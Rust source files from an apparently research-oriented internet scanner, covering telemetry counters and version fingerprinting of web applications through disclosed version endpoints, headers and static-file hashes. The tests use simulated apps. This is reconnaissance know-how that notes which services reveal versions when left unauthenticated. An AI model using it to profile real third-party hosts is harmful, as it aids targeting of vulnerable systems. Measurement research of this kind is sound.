///   hold without reallocating, so the grow count is a deterministic
///   upper bound on real arena reallocations: zero grows proves the
///   steady state allocated nothing.
/// - `alloc.headers.inline` / `alloc.headers.spilled` — probe
///   responses whose header block fit the inline representation vs.
///   spilled to the heap.
///
/// [`Scratch::RESERVE`]: crate::scratch::Scratch::RESERVE
#[derive(Clone, Debug)]
pub struct AllocMetrics {
    views_lower: Counter,
    views_squashed: Counter,
    view_bytes_lower: Counter,
    view_bytes_squashed: Counter,
    scratch_hit: Counter,
    scratch_grow: Counter,
    headers_inline: Counter,
    headers_spilled: Counter,
}

impl AllocMetrics {
    /// Register the `alloc.*` counters in `telemetry`.
    pub fn new(telemetry: &Telemetry) -> Self {
        AllocMetrics {
            views_lower: telemetry.counter("alloc.views.lower"),
            views_squashed: telemetry.counter("alloc.views.squashed"),
            view_bytes_lower: telemetry.counter("alloc.view_bytes.lower"),
            view_bytes_squashed: telemetry.counter("alloc.view_bytes.squashed"),
            scratch_hit: telemetry.counter("alloc.scratch.hit"),
            scratch_grow: telemetry.counter("alloc.scratch.grow"),
            headers_inline: telemetry.counter("alloc.headers.inline"),
            headers_spilled: telemetry.counter("alloc.headers.spilled"),
        }
    }

    /// Count one materialized `lower` view of `bytes` bytes.
    pub fn record_lower_view(&self, bytes: usize) {
        self.views_lower.incr();
        self.view_bytes_lower.add(bytes as u64);
        self.classify(bytes);
    }

    /// Count one materialized `squashed` view of `bytes` bytes.
    pub fn record_squashed_view(&self, bytes: usize) {
        self.views_squashed.incr();
        self.view_bytes_squashed.add(bytes as u64);
        self.classify(bytes);
    }

    /// Count one probe response's header block.
    pub fn record_headers(&self, spilled: bool) {
        if spilled {
            self.headers_spilled.incr();
        } else {
            self.headers_inline.incr();
        }
    }

    fn classify(&self, bytes: usize) {
        if bytes <= crate::scratch::Scratch::RESERVE {
            self.scratch_hit.incr();
        } else {
            self.scratch_grow.incr();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registry_is_send_and_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<Telemetry>();
        assert_send_sync::<Counter>();
        assert_send_sync::<Histogram>();
        assert_send_sync::<Timer>();
    }

    #[test]
    fn counters_accumulate_and_share_state() {
        let t = Telemetry::new();
        let a = t.counter("x");
        let b = t.counter("x");
        a.incr();
        b.add(2);
        assert_eq!(t.counter("x").get(), 3);
        assert_eq!(t.snapshot().counter("x"), 3);
        assert_eq!(t.snapshot().counter("never-registered"), 0);
    }

    #[test]
    fn histogram_buckets_are_inclusive_with_overflow() {
        let t = Telemetry::new();
        let h = t.histogram("h", &[1, 4, 16]);
        for v in [0, 1, 2, 4, 5, 100] {
            h.observe(v);
        }
        let s = &t.snapshot().histograms["h"];
        assert_eq!(s.buckets, vec![2, 2, 1]);
        assert_eq!(s.overflow, 1);
        assert_eq!(s.count, 6);
        assert_eq!(s.sum, 112);
    }

    #[test]
    #[should_panic(expected = "different bounds")]
    fn histogram_bounds_are_fixed() {
        let t = Telemetry::new();
        t.histogram("h", &[1, 2]);
        t.histogram("h", &[1, 3]);
    }

    #[test]
    fn timers_advance_the_virtual_clock() {
        let t = Telemetry::new();
        let stage1 = t.timer("stage1");
        let stage2 = t.timer("stage2");
        stage1.record(10);
        stage2.record(5);
        stage2.record(5);
        assert_eq!(t.virtual_clock(), 20);
        let snap = t.snapshot();
        assert_eq!(
            snap.timings["stage1"],
            TimingSnapshot {
                events: 1,
                units: 10
            }
        );
        assert_eq!(
            snap.timings["stage2"],
            TimingSnapshot {
                events: 2,
                units: 10
            }
        );
        assert_eq!(snap.virtual_clock_units, 20);
    }

    #[test]
    fn snapshot_json_is_sorted_and_deterministic() {
        let t = Telemetry::new();
        t.counter("zebra").incr();
        t.counter("aardvark").add(7);
        t.timer("sweep").record(3);
        let a = t.snapshot().to_json();
        let b = t.snapshot().to_json();
        assert_eq!(a, b);
        let za = a.find("zebra").unwrap();
        let aa = a.find("aardvark").unwrap();
        assert!(aa < za, "keys must serialize in sorted order");
    }

    #[test]
    fn concurrent_increments_from_many_threads_sum_exactly() {
        let t = Telemetry::new();
        let c = t.counter("n");
        let timer = t.timer("work");
        let threads: Vec<_> = (0..8)
            .map(|_| {
                let c = c.clone();
                let timer = timer.clone();
                std::thread::spawn(move || {
                    for _ in 0..1000 {
                        c.incr();
                        timer.record(1);
                    }
                })
            })
            .collect();
        for th in threads {
            th.join().unwrap();
        }
        assert_eq!(c.get(), 8000);
        assert_eq!(t.virtual_clock(), 8000);
    }

    #[test]
    fn prefixed_total_sums_matching_counters() {
        let t = Telemetry::new();
        t.counter("stage3.verify.Docker.confirmed").add(2);
        t.counter("stage3.verify.Hadoop.confirmed").add(3);
        t.counter("stage2.hits").add(100);
        assert_eq!(t.snapshot().prefixed_total("stage3.verify."), 5);
    }

    /// Recording work directly and replaying it through per-batch
    /// deltas must be indistinguishable — the invariant checkpointed
    /// scans rely on.
    #[test]
    fn absorbing_deltas_reconstructs_the_registry() {
        let source = Telemetry::new();
        let replica = Telemetry::new();
        let mut prev = source.snapshot();
        for round in 0..3u64 {
            source.counter("ops").add(round + 1);
            source.histogram("sizes", &[10, 100]).observe(round * 60);
            source.timer("work").record(5 * (round + 1));
            let cur = source.snapshot();
            replica.absorb(&cur.delta_since(&prev));
            prev = cur;
        }
        assert_eq!(source.snapshot().to_json(), replica.snapshot().to_json());
        assert_eq!(replica.virtual_clock(), source.virtual_clock());
    }

    /// A full snapshot absorbed into a fresh registry reproduces it,
    /// and zero-valued instruments still get registered.
    #[test]
    fn absorbing_a_full_snapshot_reproduces_it() {
        let source = Telemetry::new();
        source.counter("hits").add(7);
        source.counter("never-incremented");
        source.histogram("h", &[1, 2]).observe(2);
        source.timer("t").record(9);
        let snap = source.snapshot();

        let replica = Telemetry::new();
        replica.absorb(&snap);
        assert_eq!(replica.snapshot().to_json(), snap.to_json());
        assert!(replica.snapshot().counters.contains_key("never-incremented"));
    }

    #[test]
    fn delta_since_keeps_every_key_and_subtracts_values() {
        let t = Telemetry::new();
        t.counter("a").add(2);
        let prev = t.snapshot();
        t.counter("a").add(3);
        t.counter("b").incr();
        let delta = t.snapshot().delta_since(&prev);
        assert_eq!(delta.counter("a"), 3);
        assert_eq!(delta.counter("b"), 1);
        // Unchanged keys survive (at zero) so absorption registers them.
        assert!(delta.counters.contains_key("a"));
    }

    #[test]
    #[should_panic(expected = "not a prefix")]
    fn delta_since_rejects_non_prefix_snapshots() {
        let a = Telemetry::new();
        a.counter("x").add(5);
        let big = a.snapshot();
        let b = Telemetry::new();
        b.counter("x").add(1);
        let _ = b.snapshot().delta_since(&big);
    }

    #[test]
    fn snapshot_round_trips_through_json() {
        let t = Telemetry::new();
        t.counter("c").add(3);
        t.histogram("h", &[1, 4]).observe(2);
        t.timer("w").record(6);
        let snap = t.snapshot();
        let back: TelemetrySnapshot = serde_json::from_str(&snap.to_json()).expect("parses");
        assert_eq!(back, snap);
    }

    #[test]
    fn pool_metrics_bridge_lands_events_in_counters() {
        use nokeys_http::pool::PoolEvent;
        let t = Telemetry::new();
        let observe = PoolMetrics::observer(&t);
        for event in [
            PoolEvent::Miss,
            PoolEvent::Hit,
            PoolEvent::Hit,
            PoolEvent::StaleRetry,
            PoolEvent::Evicted,
            PoolEvent::Expired,
        ] {
            observe(event);
        }
        let snap = t.snapshot();
        assert_eq!(snap.counter("transport.pool.hit"), 2);
        assert_eq!(snap.counter("transport.pool.miss"), 1);
        assert_eq!(snap.counter("transport.pool.stale_retry"), 1);
        assert_eq!(snap.counter("transport.pool.evicted"), 1);
        assert_eq!(snap.counter("transport.pool.expired"), 1);
        assert_eq!(snap.prefixed_total("transport.pool."), 6);
    }

    #[test]
    fn alloc_metrics_classify_against_the_fixed_reserve() {
        let t = Telemetry::new();
        let m = AllocMetrics::new(&t);
        m.record_lower_view(100);
        m.record_lower_view(crate::scratch::Scratch::RESERVE);
        m.record_squashed_view(crate::scratch::Scratch::RESERVE + 1);
        m.record_headers(false);
        m.record_headers(false);
        m.record_headers(true);
        let snap = t.snapshot();
        assert_eq!(snap.counter("alloc.views.lower"), 2);
        assert_eq!(snap.counter("alloc.views.squashed"), 1);
        assert_eq!(
            snap.counter("alloc.view_bytes.lower"),
            100 + crate::scratch::Scratch::RESERVE as u64
        );
        assert_eq!(
            snap.counter("alloc.view_bytes.squashed"),
            crate::scratch::Scratch::RESERVE as u64 + 1
        );
        // Boundary: a view exactly at RESERVE still fits the arena.
        assert_eq!(snap.counter("alloc.scratch.hit"), 2);
        assert_eq!(snap.counter("alloc.scratch.grow"), 1);
        assert_eq!(snap.counter("alloc.headers.inline"), 2);
        assert_eq!(snap.counter("alloc.headers.spilled"), 1);
    }

    #[test]
    fn text_rendering_lists_every_instrument() {
        let t = Telemetry::new();
        t.counter("stage1.probes_sent").add(12);
        t.histogram("stage2.redirects", &[0, 1, 2]).observe(1);
        t.timer("stage1.sweep").record(12);
        let text = t.snapshot().render_text();
        assert!(text.contains("stage1.probes_sent"));
        assert!(text.contains("stage2.redirects"));
        assert!(text.contains("stage1.sweep"));
        assert!(text.contains("12 virtual units"));
    }
}
