//! Version fingerprinting.
//!
//! Two mechanisms, mirroring Section 3.1 "Version fingerprinting":
//!
//! 1. [`voluntary`]: extract versions the applications disclose
//!    themselves (API endpoints, headers, generator metas, HTML
//!    comments).
//! 2. [`knowledge_base`] + [`crawler`]: for the remaining applications
//!    (or stripped version strings), hash crawled static files and match
//!    them against a knowledge base built from the applications'
//!    repositories.

pub mod crawler;
pub mod knowledge_base;
pub mod voluntary;

use crate::report::FingerprintMethod;
use crate::telemetry::{Counter, Telemetry, Timer};
use knowledge_base::KnowledgeBase;
use nokeys_apps::{AppId, Version};
use nokeys_http::{Client, Endpoint, Scheme, Transport};

/// Cached fingerprinting telemetry handles.
struct FingerprintMetrics {
    voluntary: Counter,
    knowledge_base: Counter,
    miss: Counter,
    time: Timer,
}

impl FingerprintMetrics {
    fn new(telemetry: &Telemetry) -> Self {
        FingerprintMetrics {
            voluntary: telemetry.counter("fingerprint.voluntary"),
            knowledge_base: telemetry.counter("fingerprint.knowledge_base"),
            miss: telemetry.counter("fingerprint.miss"),
            time: telemetry.timer("fingerprint.identify"),
        }
    }
}

/// The combined fingerprinter.
pub struct Fingerprinter {
    kb: KnowledgeBase,
    metrics: FingerprintMetrics,
}

impl Default for Fingerprinter {
    fn default() -> Self {
        Self::new()
    }
}

impl Fingerprinter {
    /// Build the fingerprinter (constructs the knowledge base over all
    /// applications and versions).
    pub fn new() -> Self {
        Self::with_telemetry(&Telemetry::default())
    }

    /// Build a fingerprinter that records its method mix (voluntary vs.
    /// knowledge-base vs. miss) into `telemetry`.
    pub fn with_telemetry(telemetry: &Telemetry) -> Self {
        Fingerprinter {
            kb: KnowledgeBase::build(),
            metrics: FingerprintMetrics::new(telemetry),
        }
    }

    /// Access the knowledge base.
    pub fn knowledge_base(&self) -> &KnowledgeBase {
        &self.kb
    }

    /// Determine the deployed version of `app` at `ep`: voluntary
    /// disclosure first, knowledge-base crawl as fallback. One-off
    /// entry point over a throwaway scratch arena; the stage-III
    /// worker loops call [`fingerprint_with`](Self::fingerprint_with).
    pub async fn fingerprint<T: Transport>(
        &self,
        client: &Client<T>,
        app: AppId,
        ep: Endpoint,
        scheme: Scheme,
    ) -> Option<(Version, FingerprintMethod)> {
        let mut scratch = crate::scratch::Scratch::new();
        self.fingerprint_with(client, app, ep, scheme, &mut scratch)
            .await
    }

    /// Like [`fingerprint`](Self::fingerprint), borrowing the crawl
    /// observation buffer from the caller's scratch arena so the
    /// steady-state fingerprint path allocates nothing.
    pub async fn fingerprint_with<T: Transport>(
        &self,
        client: &Client<T>,
        app: AppId,
        ep: Endpoint,
        scheme: Scheme,
        scratch: &mut crate::scratch::Scratch,
    ) -> Option<(Version, FingerprintMethod)> {
        self.metrics.time.record(1);
        if let Some(version) = voluntary::extract(client, app, ep, scheme).await {
            self.metrics.voluntary.incr();
            return Some((version, FingerprintMethod::Voluntary));
        }
        let identified = crawler::identify_scratch(client, &self.kb, ep, scheme, scratch)
            .await
            .filter(|(found_app, _)| *found_app == app)
            .map(|(_, version)| (version, FingerprintMethod::KnowledgeBase));
        match &identified {
            Some(_) => self.metrics.knowledge_base.incr(),
            None => self.metrics.miss.incr(),
        }
        identified
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plugin::AppHandler;
    use nokeys_apps::{build_instance, release_history, AppConfig};
    use nokeys_http::memory::HandlerTransport;
    use std::net::Ipv4Addr;
    use std::sync::Arc;

    fn client_for(app: AppId, version_index: usize) -> (Client<HandlerTransport>, Endpoint) {
        let version = release_history(app)[version_index];
        let ep = Endpoint::new(Ipv4Addr::new(10, 2, 2, 2), app.scan_ports()[0]);
        let handler = Arc::new(AppHandler::new(build_instance(
            app,
            version,
            AppConfig::secure_for(app, &version),
        )));
        (Client::new(HandlerTransport::new().with(ep, handler)), ep)
    }

    #[tokio::test]
    async fn fingerprints_every_in_scope_app() {
        let fp = Fingerprinter::new();
        for app in AppId::in_scope() {
            let history = release_history(app);
            let idx = history.len() / 2;
            let (client, ep) = client_for(app, idx);
            let result = fp.fingerprint(&client, app, ep, Scheme::Http).await;
            let Some((version, method)) = result else {
                panic!("{app}: no fingerprint");
            };
            assert_eq!(
                version.triple(),
                history[idx].triple(),
                "{app}: wrong version via {method:?}"
            );
        }
    }

    #[tokio::test]
    async fn unreachable_host_yields_none() {
        let fp = Fingerprinter::new();
        let client = Client::new(HandlerTransport::new());
        let ep = Endpoint::new(Ipv4Addr::new(10, 2, 2, 3), 80);
        assert!(fp
            .fingerprint(&client, AppId::WordPress, ep, Scheme::Http)
            .await
            .is_none());
    }

    #[tokio::test]
    async fn telemetry_records_method_mix() {
        let telemetry = Telemetry::new();
        let fp = Fingerprinter::with_telemetry(&telemetry);
        // One successful fingerprint...
        let (client, ep) = client_for(AppId::Jenkins, 0);
        assert!(fp
            .fingerprint(&client, AppId::Jenkins, ep, Scheme::Http)
            .await
            .is_some());
        // ...and one miss against an unreachable host.
        let client = Client::new(HandlerTransport::new());
        let ep = Endpoint::new(Ipv4Addr::new(10, 2, 2, 4), 80);
        assert!(fp
            .fingerprint(&client, AppId::Jenkins, ep, Scheme::Http)
            .await
            .is_none());
        let snap = telemetry.snapshot();
        let hits =
            snap.counter("fingerprint.voluntary") + snap.counter("fingerprint.knowledge_base");
        assert_eq!(hits, 1);
        assert_eq!(snap.counter("fingerprint.miss"), 1);
        assert_eq!(snap.timings["fingerprint.identify"].units, 2);
    }
}
