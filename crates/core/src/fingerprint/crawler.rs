//! The fingerprinting crawler: fetch static files from a target, hash
//! them, and identify the application/version via the knowledge base.

use super::knowledge_base::KnowledgeBase;
use nokeys_apps::assets::fnv1a;
use nokeys_apps::{AppId, Version};
use nokeys_http::{Client, Endpoint, Scheme, Transport};

/// Crawl the target's static files into `out` as `(path, hash)` pairs
/// for every file that exists. Clears and refills `out`, reusing its
/// capacity: the crawl paths are `'static`, so the steady state
/// allocates nothing.
pub async fn crawl_into<T: Transport>(
    client: &Client<T>,
    kb: &KnowledgeBase,
    ep: Endpoint,
    scheme: Scheme,
    out: &mut Vec<(&'static str, u64)>,
) {
    out.clear();
    for path in kb.crawl_paths() {
        let Ok(fetched) = client.get_path(ep, scheme, path).await else {
            continue;
        };
        if !fetched.response.status.is_success() {
            continue;
        }
        out.push((*path, fnv1a(&fetched.response.body)));
    }
}

/// Crawl the target's static files and return `(path, hash)` pairs for
/// every file that exists. Allocating convenience wrapper around
/// [`crawl_into`] for callers without a scratch arena (the longevity
/// observer keeps the owned paths in its host state).
pub async fn crawl<T: Transport>(
    client: &Client<T>,
    kb: &KnowledgeBase,
    ep: Endpoint,
    scheme: Scheme,
) -> Vec<(String, u64)> {
    let mut obs = Vec::new();
    crawl_into(client, kb, ep, scheme, &mut obs).await;
    obs.into_iter()
        .map(|(path, hash)| (path.to_string(), hash))
        .collect()
}

/// Crawl and identify in one step.
pub async fn identify<T: Transport>(
    client: &Client<T>,
    kb: &KnowledgeBase,
    ep: Endpoint,
    scheme: Scheme,
) -> Option<(AppId, Version)> {
    let mut observations = Vec::new();
    crawl_into(client, kb, ep, scheme, &mut observations).await;
    kb.identify(&observations)
}

/// Crawl and identify, borrowing the observation buffer from the
/// caller's [`Scratch`](crate::scratch::Scratch) — the stage-III
/// steady-state path.
pub async fn identify_scratch<T: Transport>(
    client: &Client<T>,
    kb: &KnowledgeBase,
    ep: Endpoint,
    scheme: Scheme,
    scratch: &mut crate::scratch::Scratch,
) -> Option<(AppId, Version)> {
    let observations = scratch.crawl_buf();
    crawl_into(client, kb, ep, scheme, observations).await;
    kb.identify(observations)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plugin::AppHandler;
    use nokeys_apps::{build_instance, release_history, AppConfig};
    use nokeys_http::memory::HandlerTransport;
    use std::net::Ipv4Addr;
    use std::sync::Arc;

    #[tokio::test]
    async fn crawler_identifies_a_version_stripped_app() {
        // GoCD discloses no version string; the crawler must identify it.
        let app = AppId::Gocd;
        let history = release_history(app);
        let idx = history.len() - 2;
        let version = history[idx];
        let ep = Endpoint::new(Ipv4Addr::new(10, 3, 3, 3), 8153);
        let handler = Arc::new(AppHandler::new(build_instance(
            app,
            version,
            AppConfig::secure_for(app, &version),
        )));
        let client = Client::new(HandlerTransport::new().with(ep, handler));
        let kb = KnowledgeBase::build();
        let (found_app, found_version) = identify(&client, &kb, ep, Scheme::Http)
            .await
            .expect("identified");
        assert_eq!(found_app, app);
        assert_eq!(found_version.triple(), version.triple());
    }

    #[tokio::test]
    async fn crawl_collects_only_existing_files() {
        let app = AppId::Zeppelin;
        let version = release_history(app)[0];
        let ep = Endpoint::new(Ipv4Addr::new(10, 3, 3, 4), 8080);
        let handler = Arc::new(AppHandler::new(build_instance(
            app,
            version,
            AppConfig::secure_for(app, &version),
        )));
        let client = Client::new(HandlerTransport::new().with(ep, handler));
        let kb = KnowledgeBase::build();
        let obs = crawl(&client, &kb, ep, Scheme::Http).await;
        assert_eq!(
            obs.len(),
            kb.crawl_paths().len(),
            "model serves all corpus files"
        );
    }

    #[tokio::test]
    async fn unreachable_target_crawls_nothing() {
        let client = Client::new(HandlerTransport::new());
        let kb = KnowledgeBase::build();
        let ep = Endpoint::new(Ipv4Addr::new(10, 3, 3, 5), 80);
        assert!(crawl(&client, &kb, ep, Scheme::Http).await.is_empty());
        assert!(identify(&client, &kb, ep, Scheme::Http).await.is_none());
    }
}
