//! Static-file hash knowledge base.
//!
//! "The knowledge base is built using the repositories of the open-source
//! applications and includes hashes of their static files such as images,
//! scripts and stylesheets." Here the repositories are the deterministic
//! asset corpora of the application models.

use nokeys_apps::assets::{fingerprint as asset_fingerprint, ASSET_PATHS};
use nokeys_apps::{release_history, AppId, Version};
use std::collections::HashMap;

/// `(application, version index)` candidate.
pub type Candidate = (AppId, usize);

/// Hash → candidates index over every application and version.
pub struct KnowledgeBase {
    by_hash: HashMap<u64, Vec<Candidate>>,
    entries: usize,
}

impl KnowledgeBase {
    /// Build the base over all 25 applications and their full release
    /// histories.
    pub fn build() -> Self {
        let mut by_hash: HashMap<u64, Vec<Candidate>> = HashMap::new();
        let mut entries = 0;
        for app in AppId::all() {
            for (idx, version) in release_history(app).iter().enumerate() {
                for (_path, hash) in asset_fingerprint(app, version) {
                    by_hash.entry(hash).or_default().push((app, idx));
                    entries += 1;
                }
            }
        }
        KnowledgeBase { by_hash, entries }
    }

    /// Candidates whose corpus contains a file with `hash`.
    pub fn lookup(&self, hash: u64) -> &[Candidate] {
        self.by_hash.get(&hash).map(|v| v.as_slice()).unwrap_or(&[])
    }

    /// Number of (hash, candidate) entries.
    pub fn len(&self) -> usize {
        self.entries
    }

    pub fn is_empty(&self) -> bool {
        self.entries == 0
    }

    /// Identify an application and version from crawled `(path, hash)`
    /// observations: intersect the candidate sets of every observed hash
    /// and return the newest surviving version.
    ///
    /// Generic over the path type — only the hashes matter — so the
    /// scratch path's borrowed `&'static str` observations and the
    /// observer's owned `String` ones share one implementation.
    pub fn identify<P>(&self, observations: &[(P, u64)]) -> Option<(AppId, Version)> {
        let mut intersection: Option<Vec<Candidate>> = None;
        for (_path, hash) in observations {
            let candidates = self.lookup(*hash);
            if candidates.is_empty() {
                // Unknown file (e.g. user content) — ignore rather than
                // wipe the intersection.
                continue;
            }
            intersection = Some(match intersection {
                None => candidates.to_vec(),
                Some(prev) => prev
                    .into_iter()
                    .filter(|c| candidates.contains(c))
                    .collect(),
            });
        }
        let surviving = intersection?;
        let (app, idx) = surviving.into_iter().max_by_key(|(_, idx)| *idx)?;
        Some((app, release_history(app)[idx]))
    }

    /// Like [`KnowledgeBase::identify`], but returning the full candidate
    /// *version range* (oldest and newest surviving version) instead of
    /// just the newest — useful when reporting fingerprint confidence.
    pub fn identify_range<P>(
        &self,
        observations: &[(P, u64)],
    ) -> Option<(AppId, Version, Version)> {
        let mut intersection: Option<Vec<Candidate>> = None;
        for (_path, hash) in observations {
            let candidates = self.lookup(*hash);
            if candidates.is_empty() {
                continue;
            }
            intersection = Some(match intersection {
                None => candidates.to_vec(),
                Some(prev) => prev
                    .into_iter()
                    .filter(|c| candidates.contains(c))
                    .collect(),
            });
        }
        let surviving = intersection?;
        let app = surviving.first()?.0;
        if surviving.iter().any(|(a, _)| *a != app) {
            // Ambiguous across applications: no single range.
            return None;
        }
        let min = surviving.iter().map(|(_, i)| *i).min()?;
        let max = surviving.iter().map(|(_, i)| *i).max()?;
        let history = release_history(app);
        Some((app, history[min], history[max]))
    }

    /// The asset paths the crawler should request.
    pub fn crawl_paths(&self) -> &'static [&'static str] {
        &ASSET_PATHS
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::assets::asset_hash;

    #[test]
    fn base_covers_all_apps_and_versions() {
        let kb = KnowledgeBase::build();
        let expected: usize = AppId::all()
            .map(|app| release_history(app).len() * ASSET_PATHS.len())
            .sum();
        assert_eq!(kb.len(), expected);
        assert!(!kb.is_empty());
    }

    #[test]
    fn identifies_exact_version_from_full_observation() {
        let kb = KnowledgeBase::build();
        let app = AppId::Kubernetes;
        let history = release_history(app);
        let idx = 3;
        let version = history[idx];
        let obs: Vec<(String, u64)> = ASSET_PATHS
            .iter()
            .map(|p| (p.to_string(), asset_hash(app, &version, p).unwrap()))
            .collect();
        let (found_app, found_version) = kb.identify(&obs).unwrap();
        assert_eq!(found_app, app);
        assert_eq!(found_version.triple(), version.triple());
    }

    #[test]
    fn partial_observation_narrows_to_a_version_range() {
        let kb = KnowledgeBase::build();
        let app = AppId::Hadoop;
        let history = release_history(app);
        let idx = 2;
        let version = history[idx];
        // Only the slow-churn asset: several adjacent versions share it;
        // the newest of them is returned.
        let obs = vec![(
            "/static/logo.svg".to_string(),
            asset_hash(app, &version, "/static/logo.svg").unwrap(),
        )];
        let (found_app, found_version) = kb.identify(&obs).unwrap();
        assert_eq!(found_app, app);
        // The returned version shares the asset generation with the true
        // one (same 8-release bucket).
        let found_idx = history
            .iter()
            .position(|v| v.triple() == found_version.triple())
            .unwrap();
        assert_eq!(found_idx / 8, idx / 8, "same asset generation");
        assert!(found_idx >= idx, "newest candidate is returned");
    }

    #[test]
    fn unknown_hashes_are_ignored() {
        let kb = KnowledgeBase::build();
        let app = AppId::Consul;
        let version = release_history(app)[1];
        let mut obs: Vec<(String, u64)> = ASSET_PATHS
            .iter()
            .map(|p| (p.to_string(), asset_hash(app, &version, p).unwrap()))
            .collect();
        obs.push(("/static/custom.css".to_string(), 0xdeadbeef));
        let (found_app, found_version) = kb.identify(&obs).unwrap();
        assert_eq!(found_app, app);
        assert_eq!(found_version.triple(), version.triple());
    }

    #[test]
    fn identify_range_narrows_with_more_assets() {
        let kb = KnowledgeBase::build();
        let app = AppId::Hadoop;
        let history = release_history(app);
        let idx = 3;
        let version = history[idx];
        // One slow-churn asset: a wide range.
        let one = vec![(
            "/static/logo.svg".to_string(),
            asset_hash(app, &version, "/static/logo.svg").unwrap(),
        )];
        let (_, lo1, hi1) = kb.identify_range(&one).unwrap();
        // All assets: the exact version.
        let all: Vec<(String, u64)> = ASSET_PATHS
            .iter()
            .map(|p| (p.to_string(), asset_hash(app, &version, p).unwrap()))
            .collect();
        let (_, lo4, hi4) = kb.identify_range(&all).unwrap();
        assert_eq!(lo4.triple(), version.triple());
        assert_eq!(hi4.triple(), version.triple());
        let width = |lo: Version, hi: Version| {
            history
                .iter()
                .position(|v| v.triple() == hi.triple())
                .unwrap()
                - history
                    .iter()
                    .position(|v| v.triple() == lo.triple())
                    .unwrap()
        };
        assert!(width(lo1, hi1) >= width(lo4, hi4), "range must narrow");
    }

    #[test]
    fn no_known_hashes_yields_none() {
        let kb = KnowledgeBase::build();
        assert!(kb.identify(&[("/x".to_string(), 1)]).is_none());
        assert!(kb.identify::<&str>(&[]).is_none());
    }
}
