//! Voluntary version disclosure.
//!
//! "We first try to extract the exact version number from the 13
//! applications where this information is usually voluntarily revealed,
//! e.g., Kubernetes has the /version API endpoint while Consul includes a
//! HTML comment."

use nokeys_apps::{release_history, AppId, Version};
use nokeys_http::{Client, Endpoint, Response, Scheme, Transport};

/// Parse a leading `major.minor[.patch]` from `s`. Slices the digit
/// prefix in place — `[0-9.]` is single-byte, so the byte position of
/// the first non-digit-non-dot is a char boundary — instead of the
/// `chars().take_while().collect()` copy this used to make per call.
pub fn parse_version_number(s: &str) -> Option<(u16, u16, u16)> {
    let s = s.trim_start();
    let end = s
        .find(|c: char| !(c.is_ascii_digit() || c == '.'))
        .unwrap_or(s.len());
    let digits = &s[..end];
    // Every dot must separate two non-empty digit runs: "1.2." and
    // "1..2" are malformed strings (a trailing or doubled dot), not
    // versions with an implied zero component.
    if digits.split('.').any(|part| part.is_empty()) {
        return None;
    }
    let mut parts = digits.split('.');
    let major: u16 = parts.next()?.parse().ok()?;
    let minor: u16 = parts.next()?.parse().ok()?;
    let patch: u16 = match parts.next() {
        Some(p) => p.parse().ok()?,
        None => 0,
    };
    Some((major, minor, patch))
}

/// Resolve a parsed triple against the app's release history.
fn resolve(app: AppId, triple: (u16, u16, u16)) -> Option<Version> {
    release_history(app)
        .into_iter()
        .find(|v| v.triple() == triple)
}

/// Extract the substring following `marker` up to `terminator`.
fn after<'a>(body: &'a str, marker: &str, terminator: char) -> Option<&'a str> {
    let start = body.find(marker)? + marker.len();
    let rest = &body[start..];
    let end = rest.find(terminator).unwrap_or(rest.len());
    Some(&rest[..end])
}

/// Fetch a page and hand back the whole response: the extraction arms
/// borrow its body in place with [`Response::body_str`] and parse the
/// version out of the borrowed slice — no body copy per probe.
async fn fetch_response<T: Transport>(
    client: &Client<T>,
    ep: Endpoint,
    scheme: Scheme,
    path: &str,
) -> Option<Response> {
    Some(client.get_path(ep, scheme, path).await.ok()?.response)
}

/// Attempt voluntary version extraction for `app` at `ep`.
pub async fn extract<T: Transport>(
    client: &Client<T>,
    app: AppId,
    ep: Endpoint,
    scheme: Scheme,
) -> Option<Version> {
    let triple = match app {
        AppId::Jenkins => {
            // `X-Jenkins` response header on every page, parsed out of
            // the borrowed header slice — no copy.
            let fetched = client.get_path(ep, scheme, "/").await.ok()?;
            parse_version_number(fetched.response.headers.get("x-jenkins")?)?
        }
        AppId::Kubernetes => {
            let resp = fetch_response(client, ep, scheme, "/version").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "\"gitVersion\":\"v", '"')?)?
        }
        AppId::Consul => {
            let resp = fetch_response(client, ep, scheme, "/ui/").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "CONSUL_VERSION: ", ' ')?)?
        }
        AppId::WordPress => {
            let resp = fetch_response(client, ep, scheme, "/").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "content=\"WordPress ", '"')?)?
        }
        AppId::Grav => {
            let resp = fetch_response(client, ep, scheme, "/").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "content=\"GravCMS ", '"')?)?
        }
        AppId::Zeppelin => {
            let resp = fetch_response(client, ep, scheme, "/api/version").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "\"version\":\"", '"')?)?
        }
        AppId::Nomad => {
            // The UI shell's version meta works even with ACLs on.
            let resp = fetch_response(client, ep, scheme, "/ui/").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "name=\"nomad-version\" content=\"", '"')?)?
        }
        AppId::Docker => {
            // Only open daemons answer /version.
            let resp = fetch_response(client, ep, scheme, "/version").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "\"Version\":\"", '"')?)?
        }
        AppId::Hadoop => {
            let resp = fetch_response(client, ep, scheme, "/ws/v1/cluster/info").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "\"hadoopVersion\":\"", '"')?)?
        }
        AppId::JupyterLab | AppId::JupyterNotebook => {
            // /api/status answers only without auth.
            let resp = fetch_response(client, ep, scheme, "/api/status").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "\"version\":\"", '"')?)?
        }
        AppId::Polynote => {
            let resp = fetch_response(client, ep, scheme, "/").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "name=\"polynote-config\" content=\"", '"')?)?
        }
        AppId::PhpMyAdmin => {
            let resp = fetch_response(client, ep, scheme, "/").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "phpMyAdmin ", '<')?)?
        }
        AppId::Adminer => {
            let resp = fetch_response(client, ep, scheme, "/adminer.php").await?;
            let body = resp.body_str();
            parse_version_number(after(&body, "- Adminer ", '<')?)?
        }
        // GoCD, Joomla, Drupal (major only), Ajenti and the out-of-scope
        // applications do not reveal a full version — knowledge base
        // territory.
        _ => return None,
    };
    resolve(app, triple)
}

#[cfg(test)]
mod tests {
    use super::*;
